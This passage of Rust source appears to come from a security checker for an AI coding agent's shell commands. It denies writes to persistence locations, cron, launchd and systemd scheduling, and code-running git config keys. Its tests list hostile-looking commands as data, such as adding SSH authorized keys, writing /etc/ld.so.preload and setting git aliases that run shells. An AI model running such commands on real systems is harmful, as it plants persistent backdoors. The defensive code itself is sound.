                &["output-file"],
                "eOaiBtTwQPUlARDIX",
                Touch::Write,
            );
            values_into(
                &mut t,
                args,
                Some('a'),
                &["append-output"],
                "eOoiBtTwQPUlARDIX",
                Touch::Write,
            );
        }
        "truncate" => push_ops(
            &mut t,
            &operands(args, "sr", &["size", "reference"]),
            Touch::Write,
        ),
        "uniq" => {
            let ops = operands(args, "fsw", &["skip-fields", "skip-chars", "check-chars"]);
            if let Some(o) = ops.get(1) {
                push_ops(&mut t, &[o], Touch::Write);
            }
        }
        "rm" | "unlink" | "shred" | "srm" => {
            push_ops(&mut t, &operands(args, "nsu", &[]), Touch::Delete)
        }
        // `git log --output=~/.bashrc`, `git diff --output F`, `git format-patch -o DIR`,
        // `git archive -o F`: git writes its output where the option says.
        "git" => {
            let sub = git_subcommand(args);
            let rest = sub.and_then(|i| args.get(i + 1..)).unwrap_or_default();
            let name = sub.and_then(|i| args.get(i)).map(Arg::text);
            values_into(
                &mut t,
                rest,
                None,
                &["output", "output-directory"],
                "",
                Touch::Write,
            );
            if matches!(name, Some("format-patch" | "archive")) {
                values_into(&mut t, rest, Some('o'), &[], "vn", Touch::Write);
            }
        }
        _ => {}
    }
    t.retain(|(v, _, _)| !v.is_empty() && v != "-");
    t
}

fn values_into(
    t: &mut Vec<(String, Span, Touch)>,
    args: &[Arg],
    short: Option<char>,
    long: &[&str],
    short_values: &str,
    touch: Touch,
) {
    for (v, s) in option_values(args, short, long, short_values) {
        if let Some(v) = v {
            t.push((v, s, touch));
        }
    }
}

/// `cp`/`mv`/`install`: the destination (last operand or `-t DIR`) and, for copies into a
/// directory, `DIR/<basename of each source>`.
fn copy_targets(
    args: &[Arg],
    short_values: &str,
    long_values: &[&str],
    touch: Touch,
    t: &mut Vec<(String, Span, Touch)>,
) {
    let ops = operands(args, short_values, long_values);
    let dirs = option_values(args, Some('t'), &["target-directory"], "Smog");
    let (dests, srcs): (Vec<(String, Span)>, &[&Arg]) = if dirs.is_empty() {
        match ops.split_last() {
            Some((d, s)) if !s.is_empty() => (
                d.value.clone().map(|v| (v, d.span)).into_iter().collect(),
                s,
            ),
            _ => (Vec::new(), &[]),
        }
    } else {
        (
            dirs.into_iter()
                .filter_map(|(v, s)| v.map(|v| (v, s)))
                .collect(),
            &ops[..],
        )
    };
    for (d, span) in dests {
        t.push((d.clone(), span, touch));
        for s in srcs {
            if let Some(b) = s.value.as_deref().and_then(basename) {
                t.push((format!("{}/{b}", d.trim_end_matches('/')), span, touch));
            }
        }
    }
}

fn basename(v: &str) -> Option<&str> {
    v.trim_end_matches('/')
        .rsplit('/')
        .next()
        .filter(|b| !b.is_empty())
}

/// `host:path` or `user@host:path` (rsync/scp remote operand).
fn is_remote(v: &str) -> bool {
    match v.split_once(':') {
        Some((head, _)) => !head.contains('/') && !head.is_empty(),
        None => false,
    }
}

fn deny(out: &mut Findings, c: &ExecCommand, msg: String) {
    out.add(ID, Severity::Deny, sp(c.span), msg);
}

/// Scheduling and launch commands (§5 check 21).
fn scheduling(c: &ExecCommand, out: &mut Findings) {
    let Some(name) = c.base_name() else { return };
    let args = c.args();
    let help = args
        .iter()
        .any(|a| matches!(a.text(), "--help" | "--version" | "-V" | "-h"));
    match name {
        "crontab" => {
            let ops = operands(args, "uc", &[]);
            let edit = args.iter().any(|a| bundle_has(a, 'e', "uc"));
            let listing = args
                .iter()
                .any(|a| bundle_has(a, 'l', "uc") || bundle_has(a, 'r', "uc"));
            let from_stdin =
                ops.is_empty() && !edit && !listing && (c.piped_stdin || c.stdin_heredoc);
            if !help && (!ops.is_empty() || edit || from_stdin) {
                deny(out, c, "`crontab` installs or edits a cron table: a command scheduled to run later. Schedule jobs yourself, outside the agent.".into());
            }
        }
        "at" | "batch" => {
            let query = args.iter().any(|a| {
                ['l', 'c', 'd', 'r']
                    .iter()
                    .any(|f| bundle_has(a, *f, "qft"))
            });
            if !help && !query {
                deny(out, c, format!("`{name}` schedules a command to run later. Schedule jobs yourself, outside the agent."));
            }
        }
        "systemd-run" if args.iter().any(|a| a.text().starts_with("--on-")) => {
            deny(
                out,
                c,
                "`systemd-run --on-…` creates a timer that runs a command later.".into(),
            );
        }
        "systemctl" => {
            let user = args.iter().any(|a| a.is("--user"));
            let sub = operands(
                args,
                "HMtpoPn",
                &[
                    "host",
                    "machine",
                    "type",
                    "property",
                    "output",
                    "lines",
                    "root",
                    "state",
                    "signal",
                    "kill-whom",
                ],
            )
            .first()
            .map(|a| a.text());
            if user
                && matches!(
                    sub,
                    Some("enable" | "link" | "edit" | "add-wants" | "add-requires" | "reenable")
                )
            {
                deny(out, c, format!("`systemctl --user {}` installs a user service that starts by itself later.", sub.unwrap_or("")));
            }
        }
        "launchctl" => {
            let sub = args.first().map(Arg::text);
            if matches!(sub, Some("load" | "bootstrap" | "submit" | "enable")) {
                deny(
                    out,
                    c,
                    format!(
                        "`launchctl {}` installs a launchd job that starts by itself later.",
                        sub.unwrap_or("")
                    ),
                );
            }
        }
        _ => {}
    }
}

/// Global options of `git` that take a separate value.
const GIT_GLOBAL_VALUES: &[&str] = &[
    "-C",
    "-c",
    "--git-dir",
    "--work-tree",
    "--namespace",
    "--config-env",
    "--super-prefix",
    "--exec-path",
    "--list-cmds",
];

/// The index (into args) of git's subcommand, after its global options.
pub(crate) fn git_subcommand(args: &[Arg]) -> Option<usize> {
    let mut i = 0;
    while let Some(a) = args.get(i) {
        let t = a.value.as_deref()?;
        if !t.starts_with('-') {
            return Some(i);
        }
        if GIT_GLOBAL_VALUES.contains(&t) && t != "--exec-path" {
            i += 1;
        }
        i += 1;
    }
    None
}

/// `git config` writes (§6.3): a code-executing key → deny, any other key → ask.
fn git_config(c: &ExecCommand, out: &mut Findings) {
    if c.base_name() != Some("git") {
        return;
    }
    let args = c.args();
    let Some(sub_i) = git_subcommand(args) else {
        return;
    };
    if !args.get(sub_i).is_some_and(|a| a.is("config")) {
        return;
    }
    let rest = args.get(sub_i + 1..).unwrap_or(&[]);
    let flag = |names: &[&str]| rest.iter().any(|a| names.contains(&a.text()));
    let read_only = flag(&[
        "--get",
        "--get-all",
        "--get-regexp",
        "--get-urlmatch",
        "--list",
        "-l",
        "--get-color",
        "--get-colorbool",
        "get",
        "list",
    ]);
    if read_only {
        return;
    }
    let ops = operands(
        rest,
        "f",
        &["file", "blob", "type", "default", "comment", "value", "url"],
    );
    let ops: Vec<&Arg> = ops
        .into_iter()
        .filter(|a| {
            !matches!(
                a.text(),
                "set" | "unset" | "edit" | "rename-section" | "remove-section"
            )
        })
        .collect();
    let edit = flag(&["--edit", "-e", "edit"]);
    let unset = flag(&[
        "--unset",
        "--unset-all",
        "unset",
        "--remove-section",
        "--rename-section",
        "remove-section",
        "rename-section",
    ]);
    let setting = flag(&["set", "--add", "--replace-all"]) || ops.len() >= 2;
    if !(setting || edit || unset) {
        return;
    }
    if setting {
        if let Some(key) = ops.first() {
            let value = ops.get(1).and_then(|v| v.value.as_deref());
            match key.value.as_deref() {
                Some(k) if git_key_runs_code(k, value) => {
                    out.add(ID, Severity::Deny, sp(c.span), format!("`git config {k}` sets a key whose value git runs as code (a hook path, pager, editor, helper or filter); it was not run. Change git configuration yourself."));
                    return;
                }
                None => {
                    out.add(ID, Severity::Deny, sp(c.span), "`git config` sets a key whose name is computed at run time; it could be a code-executing key.");
                    return;
                }
                Some(_) => {}
            }
        }
    }
    out.add(
        ID,
        Severity::Ask,
        sp(c.span),
        "`git config` changes git configuration; it needs approval.",
    );
}

/// Whether the absolute path `abs` is a persistence location of check 21 (built-in list or `persistencePaths`): the workspace tier never writes there
/// (issue 16 item 5).
pub(crate) fn is_persistence_path(
    abs: &str,
    ctx: &EvalContext,
    cfg: &crate::shell::BashSecurityConfig,
) -> bool {
    first_match(
        &path_forms(abs, ctx),
        &PERSISTENCE_GLOBS,
        &cfg.persistence_paths,
        ctx,
    )
    .is_some()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell::{evaluate, BashSecurityConfig, Verdict};

    use crate::test_support::eval_ctx as ctx;

    fn has21(cmd: &str, sev: Severity) -> bool {
        let e = evaluate(cmd, &ctx(Os::Linux), &BashSecurityConfig::default());
        e.findings.iter().any(|f| f.id == ID && f.severity == sev)
    }

    #[test]
    fn glob_matcher_handles_stars_and_double_stars() {
        assert!(glob_match("/etc/cron*/**", "/etc/cron.d/job", false));
        assert!(glob_match("/etc/cron*/**", "/etc/crontab", false));
        assert!(glob_match(
            "**/.git/hooks/**",
            "/a/b/.git/hooks/pre-commit",
            false
        ));
        assert!(!glob_match("**/.git/hooks/**", "/a/b/.git/config", false));
        assert!(glob_match(
            "**/.claude/settings*.json",
            "/w/.claude/settings.local.json",
            false
        ));
        assert!(glob_match(
            ".ssh/authorized_keys*",
            ".ssh/authorized_keys2",
            false
        ));
        assert!(!glob_match(".ssh/authorized_keys*", ".ssh/id_rsa", false));
        assert!(glob_match("a/?/c", "a/b/c", false));
        assert!(!glob_match("a/?/c", "a/bb/c", false));
        assert!(glob_match(
            "Library/LaunchAgents/**",
            "library/launchagents/x.plist",
            true
        ));
        assert!(!glob_match(
            "Library/LaunchAgents/**",
            "library/launchagents/x.plist",
            false
        ));
        assert!(glob_match("**/a/**/b", "/x/a/y/z/b", false));
    }

    /// Paths that instantiate every built-in pattern (`**` and `*` filled in, the anchors
    /// replaced), in original and upper case, plus paths that match none.
    fn sample_paths() -> Vec<String> {
        let mut out = vec!["/tmp/x".to_string(), "/".to_string(), "rel/a".to_string()];
        let lists = [PERSISTENCE_LOCATIONS, HISTORY_FILES];
        for p in lists.iter().copied().flatten() {
            for fill in ["", "a", "a/B.c"] {
                let path = p
                    .replace("<workspace>", "/home/u/ws")
                    .replace("**", if fill.is_empty() { "d" } else { fill })
                    .replace('*', "x")
                    .replace('?', "q");
                out.push(path.to_uppercase());
                out.push(path);
            }
        }
        out
    }

    #[test]
    fn the_segment_bit_prefilter_never_changes_a_match() {
        for os in [Os::Linux, Os::Macos] {
            let c = ctx(os);
            for path in sample_paths() {
                let forms = path_forms(&path, &c);
                let (abs, home) = form_segments(&forms);
                let bits = path_bits(&abs, &home);
                for g in PERSISTENCE_GLOBS
                    .globs()
                    .iter()
                    .chain(HISTORY_GLOBS.globs())
                {
                    assert_eq!(
                        g.matches(&abs, &home, bits, &c),
                        g.matches(&abs, &home, u128::MAX, &c),
                        "{path} against {}",
                        g.pattern
                    );
                }
            }
        }
        // The samples do exercise matches: each built-in pattern matches its own instance.
        let c = ctx(Os::Linux);
        let hits = sample_paths()
            .iter()
            .filter(|p| first_match(&path_forms(p, &c), &PERSISTENCE_GLOBS, &[], &c).is_some())
            .count();
        assert!(hits >= 3 * PERSISTENCE_LOCATIONS.len(), "{hits}");
    }

    #[test]
    fn path_forms_cover_home_variants() {
        let c = ctx(Os::Linux);
        let f = path_forms("~/.bashrc", &c);
        assert!(f.home_rel.contains(&".bashrc".to_string()));
        let f = path_forms("~bob/.ssh/rc", &c);
        assert!(f.home_rel.contains(&".ssh/rc".to_string()));
        let f = path_forms("/root/.zshrc", &c);
        assert!(f.home_rel.contains(&".zshrc".to_string()));
        let f = path_forms("../.profile", &c);
        assert!(f.home_rel.contains(&".profile".to_string()));
    }

    #[test]
    fn git_code_keys() {
        assert!(git_key_runs_code("core.hooksPath", Some(".h")));
        assert!(git_key_runs_code("filter.lfs.smudge", Some("x")));
        assert!(git_key_runs_code("includeIf.gitdir:~/w/.path", Some("x")));
        assert!(git_key_runs_code("alias.x", Some("!sh")));
        assert!(!git_key_runs_code("alias.co", Some("checkout")));
        assert!(!git_key_runs_code("credential.helper", Some("store")));
        assert!(git_key_runs_code(
            "credential.helper",
            Some("!f() { id; }; f")
        ));
        assert!(!git_key_runs_code("user.email", Some("a@b")));
    }

    #[test]
    fn writes_to_persistence_locations_are_denied() {
        for c in [
            "echo 'x' >> ~/.bashrc",
            "echo x > $HOME/.zshenv",
            "sort -o ~/.zshrc a",
            "sort --out=~/.zshrc a",
            "cp k.pub ~/.ssh/authorized_keys",
            "cp authorized_keys ~/.ssh/",
            "mv x -t ~/.config/autostart",
            "ln -sf /dev/null ~/.bash_history",
            "ln -s ~/.bashrc b",
            "echo x | sudo tee -a /etc/profile.d/x.sh",
            "sed -i 's/a/b/' ~/.profile",
            "perl -pi -e 's/a/b/' ~/.bashrc",
            "dd if=x of=/etc/ld.so.preload",
            "truncate -s 0 ~/.bash_history",
            "rm ~/.zsh_history",
            "curl -o ~/.bashrc https://example.invalid/x",
            "echo x >> .git/hooks/pre-commit",
            "bash -c 'echo x >> .claude/settings.json'",
            "install -m 644 u.service ~/.config/systemd/user/u.service",
            "{ echo a; } >> /etc/cron.d/job",
            "cat x > ../.bashrc",
        ] {
            assert!(has21(c, Severity::Deny), "{c}");
        }
    }

    #[test]
    fn ordinary_writes_are_not_check_21() {
        for c in [
            "echo x >> notes.txt",
            "cp a b",
            "sort -o out.txt in.txt",
            "cat ~/.bashrc",
            "rm ~/.bashrc.bak",
            "ln -s a b",
            "sed -n 1p ~/.bashrc",
            "tee out.log",
        ] {
            let e = evaluate(c, &ctx(Os::Linux), &BashSecurityConfig::default());
            assert!(!e.findings.iter().any(|f| f.id == ID), "{c}: {e:?}");
        }
    }

    #[test]
    fn macos_matching_is_case_insensitive() {
        let e = evaluate(
            "cp x.plist ~/library/launchagents/",
            &ctx(Os::Macos),
            &BashSecurityConfig::default(),
        );
        assert_eq!(e.verdict, Verdict::Deny, "{e:?}");
    }

    #[test]
    fn configured_persistence_globs_are_matched() {
        let cfg = BashSecurityConfig {
            persistence_paths: vec!["~/.myhooks/**".into(), "*.autorun".into()],
            ..BashSecurityConfig::default()
        };
        for c in ["echo x > ~/.myhooks/a", "cp x deep/dir/y.autorun"] {
            let e = evaluate(c, &ctx(Os::Linux), &cfg);
            assert!(e.findings.iter().any(|f| f.id == ID), "{c}: {e:?}");
        }
    }

    #[test]
    fn scheduling_commands() {
        for c in [
            "echo x | crontab -",
            "crontab f.txt",
            "crontab -e",
            "crontab -u bob f",
            "echo id | at now",
            "at -f job.sh 10:00",
            "batch",
            "systemd-run --on-active=30 /bin/touch /tmp/x",
            "systemctl --user enable evil.service",
            "systemctl enable --user --now x.service",
            "launchctl load ~/Library/LaunchAgents/x.plist",
            "launchctl bootstrap gui/501 x.plist",
        ] {
            assert!(has21(c, Severity::Deny), "{c}");
        }
        for c in [
            "crontab -l",
            "crontab -r",
            "at -l",
            "systemctl status x",
            "systemctl enable x",
            "launchctl list",
        ] {
            assert!(!has21(c, Severity::Deny), "{c}");
        }
    }

    #[test]
    fn git_config_writes() {
        for c in [
            "git config core.hooksPath .h",
            "git config --global core.pager 'less -R'",
            "git -C repo config --add alias.x '!sh -c id'",
            "git config set core.fsmonitor ./x",
        ] {
            assert!(has21(c, Severity::Deny), "{c}");
        }
        for c in [
            "git config user.email a@b",
            "git config --unset user.name",
            "git config -e",
        ] {
            assert!(has21(c, Severity::Ask), "{c}");
        }
        for c in [
            "git config --get user.email",
            "git config user.email",
            "git config -l",
        ] {
            let e = evaluate(c, &ctx(Os::Linux), &BashSecurityConfig::default());
            assert!(!e.findings.iter().any(|f| f.id == ID), "{c}");
        }
    }

    #[test]
    fn option_values_handle_bundles_and_prefixes() {
        let m = crate::shell::semantic::Arg {
            value: None,
            span: Span::default(),
            plain: true,
            glob: false,
            substitution: false,
            param: false,
            brace: false,
        };
        let a = |s: &str| Arg {
            value: Some(s.into()),
            ..m.clone()
        };
        let args = [
            a("-sSLo"),
            a("out"),
            a("-ofile2"),
            a("--outp=x"),
            a("-do"),
            a("--output"),
            a("y"),
        ];
        let v: Vec<Option<String>> = option_values(&args, Some('o'), &["output"], "d")
            .into_iter()
            .map(|x| x.0)
            .collect();
        assert_eq!(
            v,
            vec![
                Some("out".into()),
                Some("file2".into()),
                Some("x".into()),
                Some("y".into())
            ]
        );
    }
}
